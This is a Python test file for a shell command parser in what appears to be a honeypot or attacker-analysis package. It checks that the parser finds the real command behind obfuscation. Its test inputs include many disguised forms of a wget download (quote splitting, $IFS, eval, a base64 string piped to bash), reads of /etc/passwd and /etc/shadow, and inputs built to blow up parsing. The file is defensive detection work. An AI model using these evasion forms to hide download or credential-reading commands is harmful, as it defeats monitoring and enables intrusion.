"""What is typed is read as the commands it comes to."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet_actors.analysis.techniques.command_line import MAX_COMMANDS, MAX_LINE, Command, commands
from decnet_actors.analysis.techniques.patterns import Wild


@pytest.mark.parametrize(
    "line",
    [
        'w""get http://x/a',
        "w'g'et http://x/a",
        "w\\get http://x/a",
        "$'\\x77get' http://x/a",
        "w$@get http://x/a",
        "$(echo wget) http://x/a",
        "`printf wget` http://x/a",
        "a=wg; b=et; $a${b} http://x/a",
        "wget${IFS}http://x/a",
        "{wget,http://x/a}",
        "X=1 wget http://x/a # and no more",
        "if true; then wget http://x/a; fi",
        "/usr/bin/wget http://x/a",
        "sudo -u www wget http://x/a",
        "busybox wget http://x/a",
        "nohup timeout 30 wget http://x/a &",
        "sh -c 'wget http://x/a'",
        "eval wget http://x/a",
        "echo wget http://x/a | sh",
        "echo d2dldCBodHRwOi8veC9h | base64 -d | bash",
        "(cd /tmp && wget http://x/a)",
        "wget http://x/a > /dev/null 2>&1",
        "wget \\\nhttp://x/a",
    ],
)
def test_quoting_and_wrapping_hide_no_command(line):
    found = [command for command in commands(line) if command.program == "wget"]

    assert ["http://x/a"] == [word for command in found[-1:] for word in command.words[1:]], commands(line)


@pytest.mark.parametrize(
    "line", ["echo wget http://x/a", "# wget", "echo 'a; wget b'", 'echo "x | wget"', "cat wget", "", ";;|&", "'"]
)
def test_what_only_names_a_command_is_none(line):
    assert "wget" not in {command.program for command in commands(line)}


def test_files_and_pipes_are_told_from_words():
    line = "cat </etc/passwd 2>/dev/null | grep root >>out | wc -l"

    assert (
        Command(words=("cat",), reads=("/etc/passwd",), writes=("/dev/null",), feeds=("grep", "wc")),
        Command(words=("grep", "root"), writes=("out",), feeds=("wc",)),
        Command(words=("wc", "-l")),
    ) == commands(line)


def test_a_word_with_wildcards_is_marked_unless_they_are_quoted():
    words = commands("cat /etc/sh?dow '/etc/*'")[0].words

    assert [False, True, False] == [isinstance(word, Wild) for word in words]


PIECES = st.sampled_from([*"ab |&;<>()'\"\\$`{}#=*\n", "$(", "${a}", "sh -c ", "eval ", "a=", "$a", "base64 -d"])


@given(st.lists(PIECES, max_size=40).map("".join))
def test_every_line_is_read_and_bounded(line):
    found = commands(line)

    assert len(found) <= MAX_COMMANDS
    assert all(len(word) <= 2 * MAX_LINE for command in found for word in command.words)


@pytest.mark.parametrize("line", ["a=xx;" + "a=$a$a;" * 1000 + "echo $a", "$(" * 4000, "eval " * 1000, "a;" * 4000])
def test_a_line_made_to_grow_does_not(line):
    found = commands(line)

    assert len(found) <= MAX_COMMANDS
    assert max((len(word) for command in found for word in command.words), default=0) <= 2 * MAX_LINE
